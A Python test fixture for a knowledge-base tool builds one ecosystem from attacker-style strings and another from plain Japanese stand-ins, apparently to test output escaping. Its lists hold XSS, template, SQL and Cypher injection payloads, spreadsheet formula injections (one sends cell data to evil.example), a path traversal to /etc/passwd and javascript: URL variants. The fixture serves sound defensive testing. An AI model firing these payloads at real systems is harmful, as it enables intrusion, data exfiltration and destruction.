"""One ecosystem twice: its texts as an attacker would write them, and plain ones in their place."""

from __future__ import annotations

from collections.abc import Callable, Iterator
from contextlib import contextmanager
from pathlib import Path

from kb.base import KnowledgeBase
from kb.graph import stop
from kb.ledger import SourceDescription
from kb.records import Entity, Evidence, Key, Link, Name, Record, Statistic
from kb.settings import Settings
from kb.text import Text
from kb.when import between

AT = "2026-11-21T00:00:00+00:00"
SOURCE = "report"
RUN = "window.ran=1"
HOSTILE = (
    f"<script>{RUN};alert(1)</script>",
    f'"><img src=x onerror="{RUN}">',
    f"' onmouseover='{RUN}' x='",
    f"</title></script></style><svg onload={RUN}>",
    f"&lt;script&gt;{RUN}&lt;/script&gt; &amp;#60; &#x3c;b&#x3e;",
    f"{{{{ 7*7 }}}}{{% raw %}}${{{RUN}}}<%= 7*7 %>",
    f"javascript:{RUN}",
    '=HYPERLINK("https://evil.example/?"&A1,"見積")',
    "=cmd|' /C calc'!A0",
    "+1+1",
    "-2+3",
    "@SUM(7+7)",
    "\t=4+4",
    "'=5+5",
    "＝６＋６",
    "safe\u202eexe.fdp\u202c end",
    "\u2067rtl\u2069 \u202b混ぜ\u202c",
    "שלום עולם العربية",
    "👩‍🔬🏭🇯🇵 絵文字",
    "改行\n二行目\r\n=3+3",
    "制御\x01\x07\x1b[31m\x7f\x85文字",
    "な" * 5_000,
    "\u2028区切り\u2029 \ufeff\ufffe",
    "../../etc/passwd",
    "%3Cscript%3Ealert(1)%3C/script%3E",
    "\\u003cscript\\u003e ]]> <!-- --> <![CDATA[",
    "'; DROP TABLE claim; --",
    "' OR 1=1 // MATCH (n) DETACH DELETE n",
)
ADDRESSES = (
    f"javascript:{RUN}",
    f"JaVaScRiPt:{RUN}",
    f" javascript:{RUN}",
    f"java\tscript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "//evil.example/x",
    "\\\\evil.example",
    "vbscript:x",
)
TYPES = ("Firm", "University", "SupportFoundation", "Producer", "Project", "Technology", "Need")

Written = Callable[[int], str]


def hostile(number: int) -> str:
    """Give one of the texts."""
    return HOSTILE[number % len(HOSTILE)]


def plain(number: int) -> str:
    """Give a harmless text in its place: as different from the others as that one is, and as long."""
    text = f"ふつうの名{number % len(HOSTILE):02}"
    return text + "ん" * (len(hostile(number)) - len(text))


def records(text: Written) -> Iterator[Record]:
    """Give things of many types, with ties, figures and remarks, all texts written by `text`."""
    for number in range(len(HOSTILE)):
        type_ = TYPES[number % len(TYPES)]
        names = (
            Name(text(number)),
            Name(text(number + 1), "en"),
            Name(text(number + 2), "ja", "alias"),
        )
        evidence = (
            Evidence(SOURCE, text(number + 3), note=text(number + 4), note_en=text(number + 5)),
        )
        more = {"description_ja": text(number + 6), "description_en": text(number + 7)}
        if type_ in {"Firm", "University", "SupportFoundation"}:
            more |= {"website": text(number + 8), "doubt": text(number + 9)}
        yield Entity(_key(number), (type_,), names, evidence, more)
    for number in range(len(HOSTILE) - 1):
        yield _tie("COLLABORATES_WITH", number, text)
    yield from Statistic(
        Key("local", "figure"), (_key(0),), Text(text(1), text(2)), 3.0, text(3),
        (Evidence(SOURCE, text(4)),),
    ).records()  # fmt: skip


def _tie(relation: str, number: int, text: Written) -> Link:
    agents = [n for n in range(len(HOSTILE)) if TYPES[n % len(TYPES)] in TYPES[:4]]
    source, target = agents[number % len(agents)], agents[(number + 1) % len(agents)]
    evidence = (Evidence(SOURCE, text(number), note=text(number + 1), note_en=text(number + 2)),)
    when = between("2020", "2024")
    return Link(relation, _key(source), _key(target), evidence, f"role{number}", when)


def _key(number: int) -> Key:
    return Key("local", f"thing{number}")


@contextmanager
def ecosystem_of(home: Path, text: Written) -> Iterator[KnowledgeBase]:
    """Bring it in as a source would, draw and measure it."""
    with KnowledgeBase(Settings.from_environment({"KAKEHASHI_HOME": str(home)})) as kb:
        for number, address in enumerate(ADDRESSES):
            title, rhythm = Text(text(number), text(number + 1)), Text(text(number + 2), "x")
            led = address if text is hostile else f"nowhere{number}"
            name = SOURCE if number == 0 else f"{SOURCE}{number}"
            kb.ledger.describe(SourceDescription(name, title, title, text(number), led, rhythm))
        run = kb.ledger.begin(SOURCE, input_hash="1", software="1", at=AT)
        kb.ledger.stage(run, records(text))
        kb.ledger.commit(run, at=AT)
        kb.catch_up()
        kb.measure(at=AT)
        yield kb
    stop(kb.settings)
